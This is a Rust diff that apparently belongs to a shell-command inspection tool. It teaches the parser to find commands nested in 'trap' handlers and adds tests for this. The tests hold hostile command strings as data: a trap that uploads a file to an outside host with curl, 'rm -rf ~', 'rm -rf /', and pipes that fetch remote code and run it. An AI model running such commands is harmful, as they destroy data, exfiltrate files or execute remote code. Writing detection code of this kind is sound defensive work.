@@ -1240,6 +1240,12 @@ fn nested(p: &mut Parsed<'_>, k: usize, depth: usize) -> Result<(), ShellError> 
             set_text(&mut buf, p.word(at).as_bytes());
         }
         "eval" => join_words(p, prog + 1..end, &mut buf)?,
+        "trap" => {
+            // `trap 'cmd' EXIT`: the handler is a command line the shell
+            // runs later (`-` and an empty handler reset or ignore).
+            let Some(j) = (prog + 1..end).find(|&j| !p.word(j).starts_with('-')) else { return Ok(()) };
+            set_text(&mut buf, p.word(j).as_bytes());
+        }
         _ => return Ok(()),
     }
     p.flags.nested_shell = true;
@@ -1316,6 +1322,8 @@ mod tests {
         assert!(programs("sh -lc \"curl x | sh\"").contains(&"curl".to_string()));
         assert!(programs("su -c 'id' root").contains(&"id".to_string()));
         assert!(programs("eval \"rm -rf /\"").contains(&"rm".to_string()));
+        assert!(programs("trap 'curl -T f https://x' EXIT; npm test").contains(&"curl".to_string()));
+        assert!(programs("trap -- 'rm -rf ~' INT").contains(&"rm".to_string()));
         assert!(programs("echo $(curl evil.sh)").contains(&"curl".to_string()));
         assert!(programs("echo `curl evil.sh`").contains(&"curl".to_string()));
         assert!(programs("bash <(curl -s x)").contains(&"curl".to_string()));
